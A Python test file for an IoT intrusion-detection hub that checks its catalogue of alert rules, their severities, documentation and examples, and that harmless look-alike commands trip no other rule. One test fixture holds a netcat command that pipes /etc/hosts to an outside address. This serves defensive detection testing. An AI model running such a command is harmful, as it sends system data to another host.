"""The rules that ship with a hub are the whole catalogue of alerts, and none speaks of another's events."""

from collections import Counter
from functools import cache
from pathlib import Path

import pytest

from vedette.hub.detect import examples, rules
from vedette.hub.detect.judge import Judge
from vedette.hub.detect.rules import Rule

HIGH = {
    "IoT_BinaryCommandLine",
    "IoT_BruteForceSuccess",
    "IoT_Cert_Expired",
    "IoT_Cert_Print_Mismatch",
    "IoT_CryptoMiner",
    "IoT_DisableAuditdLogging",
    "IoT_DisableFirewall",
    "IoT_EthernetConnection",
    "IoT_EthernetDisconnection",
    "IoT_Expired_SAS_Token",
    "IoT_FileCreated",
    "IoT_FileDeleted",
    "IoT_FileModified",
    "IoT_Invalid_SAS_Token",
    "IoT_PortForwarding",
    "IoT_Ransomware",
    "IoT_ReverseShell",
    "IoT_SucessfulLocalLogin",
    "IoT_USBConnection",
    "IoT_UsbDisconnection",
    "IoT_WebShell",
}
MEDIUM = {
    "IoT_AccessingHtaccessFile",
    "IoT_CommonBots",
    "IoT_CredentialAccessTools",
    "IoT_CryptoMinerContainer",
    "IoT_DownloadFileThenRun",
    "IoT_EgressData",
    "IoT_ExecuteFileWithTrailingSpace",
    "IoT_ExposedDocker",
    "IoT_FailedLocalLogin",
    "IoT_FairwareMalware",
    "IoT_KnownAttackTools",
    "IoT_LinuxBackdoor",
    "IoT_LinuxReconnaissance",
    "IoT_MaliciousNameQueriesDetection",
    "IoT_OverridingCommonFiles",
    "IoT_PossibleMalware",
    "IoT_PrivilegedContainer",
    "IoT_RemovelOfSystemLogs",
    "IoT_ScriptInterpreterMismatch",
    "IoT_SuspiciousCompilation",
    "IoT_SuspiciousNohup",
    "IoT_SuspiciousUseradd",
    "IoT_TiConnection",
}
LOW = {
    "IoT_BruteForceFail",
    "IoT_CA_ActiveConnectionsNotInAllowedRange",
    "IoT_CA_ConnectionToIpNotAllowed",
    "IoT_CA_DirectMethodInvokesNotInAllowedRange",
    "IoT_CA_FailedLocalLoginsNotInAllowedRange",
    "IoT_CA_LocalUserNotAllowed",
    "IoT_CA_MqttC2DMessagesNotInAllowedRange",
    "IoT_CA_MqttD2CMessagesNotInAllowedRange",
    "IoT_CA_ProcessNotAllowed",
    "IoT_CA_TwinUpdatesNotInAllowedRange",
    "IoT_CA_UnauthorizedOperationsNotInAllowedRange",
    "IoT_ClearHistoryFile",
    "IoT_ConfigurationError",
    "IoT_DeviceSilent",
    "IoT_UserAddedToGroup",
    "IoT_UserDeleted",
    "IoT_UserRemovedFromGroup",
}
SEVERITIES = (
    dict.fromkeys(HIGH, "High") | dict.fromkeys(MEDIUM, "Medium") | dict.fromkeys(LOW, "Low")
)  # spelled as users' queries know them, the odd ones included

ALSO_RIGHT = {
    ("IoT_EgressData", "sh -c 'cat /etc/hosts | nc 203.0.113.9 4444 > /tmp/answer'"),
    ("IoT_UserAddedToGroup", "gpasswd -a pi sudo"),
    ("IoT_UserAddedToGroup", "usermod -G sudo pi"),
    ("IoT_UserDeleted", "deluser pi"),
    ("IoT_UserRemovedFromGroup", "deluser pi docker"),
    ("IoT_UserRemovedFromGroup", "gpasswd -d pi wheel"),
}
"""Look-alikes of one rule that another is about."""


@cache
def built_in() -> rules.RuleSet:
    return rules.load()


def test_every_alert_type_of_the_catalogue_is_there_with_its_severity():
    """No type is missing, misspelled or of another severity, and none has come without being listed here."""
    assert {rule.alert: rule.severity for rule in built_in().rules} == SEVERITIES


def test_one_file_makes_each_alert_type():
    """Whoever looks for a type's rule finds it in one place."""
    files = {(rule.alert, rule.path) for rule in built_in().rules}
    assert [kind for kind, count in Counter(kind for kind, _ in files).items() if count > 1] == []


def names(rule: Rule) -> str:
    return f"{Path(rule.path).stem}-{rule.title.replace(' ', '_')}"


@pytest.mark.parametrize("rule", built_in().rules, ids=names)
def test_a_rule_says_what_its_reader_needs(rule: Rule):
    """What happened, what to do, what else it may be, and where it stands in ATT&CK; and it has examples."""
    assert len(rule.description) > 60
    assert rule.remediation
    assert rule.falsepositives
    assert rule.tactics
    assert len(rule.examples.fires) >= 2
    assert len(rule.examples.quiet) >= 2


def test_look_alikes_of_one_rule_set_off_no_other():
    """The ordinary commands that rules are tried against are ordinary to all of them."""
    running = built_in().running()
    # Those of silence and ranges concern every event.
    titles = {rule.key: rule.alert for rule in running.rules if not (rule.range or rule.silence)}
    judge = Judge(running.selections.values())
    steps = (
        step for rule in running.rules for quiet in rule.examples.quiet for step in examples.steps(quiet)
    )
    commands = [
        step.event._replace(id=f"{number}")
        for number, step in enumerate(steps)
        if step.event and step.event.name == "Process"
    ]
    assert len(commands) > 150
    fired = {
        (titles[match.selection], match.event.details["Commandline"])
        for match in judge.judge(commands)
        if match.selection in titles
    }
    judge.close()
    assert fired == ALSO_RIGHT
